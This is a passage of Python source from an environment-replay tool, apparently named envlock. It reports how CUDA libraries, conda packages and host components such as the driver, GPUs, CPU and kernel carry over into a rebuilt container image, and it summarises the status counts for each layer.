        path = f"cuda.{comp.name}"
        if comp.source == "pip":
            findings.append(
                Finding(
                    "cuda",
                    path,
                    INFO,
                    f"{comp.name} {comp.version} comes with its Python package (hash-pinned)",
                    locked=comp.version,
                    status=EXACT,
                    rank=200,
                )
            )
        elif comp.source == "conda":
            findings.append(
                Finding(
                    "cuda",
                    path,
                    NUMERIC,
                    f"{comp.name} {comp.version} came from conda; the image does not replay conda packages",
                    fix="install the matching nvidia-* wheels, or replay the conda environment with conda",
                    locked=comp.version,
                    status=NOT_REPRODUCIBLE,
                    rank=30,
                )
            )
        elif comp.source == "system" and missing is not None:
            findings.append(
                Finding(
                    "cuda",
                    path,
                    NUMERIC,
                    f"{comp.name} {comp.version} (system toolkit) is not in the image: {missing}",
                    why="the system CUDA toolkit decides which kernels and math libraries code built against it uses",
                    fix="replay where a registry serves an nvidia/cuda image with this toolkit, or pass --base-image with a local one",
                    locked=comp.version,
                    status=NOT_REPRODUCIBLE,
                    rank=30,
                )
            )
        elif comp.source == "system":
            provided = _base_cuda_version(comp, base)
            if provided is not None and base is not None:  # a base offers a version only when there is one
                findings.append(
                    Finding(
                        "cuda",
                        path,
                        NUMERIC,
                        f"{comp.name} {comp.version} was a system library; {base.image} has {comp.name} from CUDA {base.cuda}"
                        + (f" / cuDNN {base.cudnn}" if base.cudnn else "")
                        + "; verify reads the exact version",
                        locked=comp.version,
                        actual=provided,
                        status=CHANGED,
                        rank=30,
                    )
                )
            else:
                findings.append(
                    Finding(
                        "cuda",
                        path,
                        NUMERIC,
                        f"{comp.name} {comp.version} was a system library"
                        + (
                            "; the base image does not provide it"
                            if base_source != "user"
                            else "; the --base-image is checked by verify"
                        ),
                        fix="replay on an nvidia/cuda image with that toolkit (--base-image)",
                        locked=comp.version,
                        status=NOT_REPRODUCIBLE if base_source != "user" else UNKNOWN,
                        rank=30,
                    )
                )
        else:  # framework: reported by its Python package
            findings.append(
                Finding(
                    "cuda",
                    path,
                    INFO,
                    f"{comp.name} {comp.version} is bundled with a framework package",
                    locked=comp.version,
                    status=EXACT,
                    rank=200,
                )
            )


# System CUDA libraries whose version follows the toolkit's major.minor.
_TOOLKIT_VERSIONED = ("cudart", "cuda-runtime", "cuda-toolkit", "cuda", "nvcc", "nvrtc")


def _base_cuda_version(comp: m.CudaComponent, base: BaseImage | None) -> str | None:
    """What the base image offers for a system CUDA component, or None when it offers nothing."""
    if base is None or base.cuda is None:
        return None
    if comp.name == "cudnn":
        return f"{base.cudnn}.x" if base.cudnn else None
    if comp.name in _TOOLKIT_VERSIONED:
        if comp.name == "nvcc" and base.flavor != "devel":
            return None
        return f"{base.cuda}.x" if minor(comp.version) == base.cuda else None
    # cuBLAS, cuFFT, NCCL ...: versioned on their own; the image has the ones of its toolkit.
    return f"CUDA {base.cuda}"


_NUMERIC_CONDA = re.compile(
    r"(?:lib)?(?:blas|cblas|lapack|openblas|mkl|blis|cudatoolkit|cudnn|nccl|cuda-.*|libcu.*|pytorch|tensorflow.*|jax.*)"
)


def _conda_layer(lock: m.Lock, opts: ReplayOptions, findings: list[Finding]) -> CondaInstall | None:
    """The conda packages to install exactly (:mod:`envlock.replay.conda`), or None with findings.

    When they cannot all be fetched and checked (another platform, a channel
    that needs credentials, a record without URL or hash), nothing of the conda
    layer is installed: every package is reported, and Python packages that
    conda installed are replaced by hash-pinned wheels (reported as
    ``differs`` by the Python layer).
    """
    from envlock.replay.conda import plan_conda

    try:
        install, found = plan_conda(
            lock, opts.conda_platform, opts.conda_channel_url, opts.conda_unavailable, opts.conda_local
        )
    except ValueError as exc:
        raise ReplayError(str(exc), hint="pass a plain https URL of a channel readable without credentials") from None
    findings.extend(found)
    if install is None:
        _conda_not_replayed(lock, findings)
    elif opts.installer_index_url:
        install = records.replace(install, installer_index=opts.installer_index_url)
    return install


# The base of a conda replay: its python3 only runs the installer in stage 1
# (py-rattler needs >= 3.10); the image's Python is the conda prefix's, whatever
# its version, so the base is chosen as if the lock had this one.
_CONDA_BASE_PYTHON = "3.11"


def _with_conda_python(lock: m.Lock, conda: CondaInstall | None) -> m.Lock:
    """The lock as the base-image chooser sees it when the conda prefix brings the interpreter."""
    if conda is None:
        return lock
    python = lock.python or m.PythonSection()
    return records.replace(lock, python=records.replace(python, version=_CONDA_BASE_PYTHON))


def _pip_on_conda(
    lock: m.Lock, opts: ReplayOptions, base: BaseImage | None, base_source: str, findings: list[Finding]
) -> tuple[tuple[InstallGroup, ...], tuple[WheelhouseFile, ...], tuple[str, ...]]:
    """The Python layer on top of a conda prefix: only what pip installed; the interpreter is conda's."""
    from envlock.replay.conda import pip_layer_lock

    pip_lock = pip_layer_lock(lock)
    if pip_lock.python is None or not pip_lock.python.packages:
        return (), (), ()
    found: list[Finding] = []
    groups, wheelhouse, _ = _python_layer(pip_lock, opts, base, base_source, found)
    # The base image's interpreter and the venv's bootstrap pip are not in a conda image.
    dropped = ("python.version", "python.implementation", "python.packages[pip]")
    findings.extend(f for f in found if f.path not in dropped)
    return groups, wheelhouse, ()


def _conda_not_replayed(lock: m.Lock, findings: list[Finding]) -> None:
    """Every conda package of a lock whose conda layer is not replayed, as a finding."""
    if lock.conda is None or not lock.conda.packages:
        return
    python_names = set()
    if lock.python is not None:
        from packaging.utils import canonicalize_name

        python_names = {canonicalize_name(p.name) for p in lock.python.packages}
    already = {f.path for f in findings}  # a package whose own problem was reported says it once
    for pkg in lock.conda.packages:
        if pkg.name in python_names or pkg.name == "python":
            continue  # reported by the Python layer
        if f"conda.packages[{pkg.name}]" in already:
            continue
        numeric = bool(_NUMERIC_CONDA.fullmatch(pkg.name))
        findings.append(
            Finding(
                "conda",
                f"conda.packages[{pkg.name}]",
                NUMERIC if numeric else DIFFERS,
                f"{pkg.name} {pkg.version} (conda) is not replayed: the conda layer is not installed (see conda.packages)",
                why="BLAS, OpenMP and CUDA libraries from conda decide numerics" if numeric else None,
                fix="record every conda package with its URL and hash (capture the environment, or conda-lock)",
                locked=pkg.version + (f" {pkg.build}" if pkg.build else ""),
                status=NOT_REPRODUCIBLE,
                rank=50 if numeric else 170,
            )
        )


def _host_layers(lock: m.Lock, findings: list[Finding]) -> None:
    nvidia = lock.nvidia
    if nvidia is not None and nvidia.driver_present:
        findings.append(
            Finding(
                "driver",
                "nvidia.driver",
                INFO,
                "the NVIDIA driver belongs to the host, never to an image; verify compares this host's driver with the lock",
                locked=nvidia.driver_version,
                status=NOT_REPRODUCIBLE,
                rank=10,
            )
        )
        if nvidia.gpus:
            names = sorted({g.name for g in nvidia.gpus})
            findings.append(
                Finding(
                    "gpu",
                    "nvidia.gpus",
                    INFO,
                    "the GPUs belong to the host; verify compares model, count and compute capability",
                    locked=f"{len(nvidia.gpus)} x {', '.join(names)}",
                    status=NOT_REPRODUCIBLE,
                    rank=10,
                )
            )
    if lock.cpu is not None:
        findings.append(
            Finding(
                "cpu",
                "cpu",
                INFO,
                "the CPU belongs to the host; verify compares the ISA flags that change kernel choice",
                locked=lock.cpu.model_name or lock.cpu.microarchitecture,
                status=NOT_REPRODUCIBLE,
                rank=20,
            )
        )
    if lock.os is not None and lock.os.kernel:
        findings.append(
            Finding(
                "host",
                "os.kernel",
                INFO,
                "the kernel belongs to the host, not to the image",
                locked=lock.os.kernel,
                status=NOT_REPRODUCIBLE,
                rank=190,
            )
        )
    if lock.project is not None and lock.project.commit:
        findings.append(
            Finding(
                "project",
                "project.commit",
                INFO,
                "the image holds the environment, not your code: mount or copy the project at this commit",
                locked=lock.project.commit,
                status=NOT_REPRODUCIBLE,
                rank=195,
            )
        )


def layer_summary(findings: Iterable[Finding]) -> dict[str, dict[str, int]]:
    """Counts of statuses per layer, for a one-screen plan summary (pure)."""
    out: dict[str, dict[str, int]] = {}
    for item in findings:
        out.setdefault(item.layer, {}).setdefault(item.status, 0)
        out[item.layer][item.status] += 1
    return {layer: dict(sorted(counts.items())) for layer, counts in sorted(out.items())}
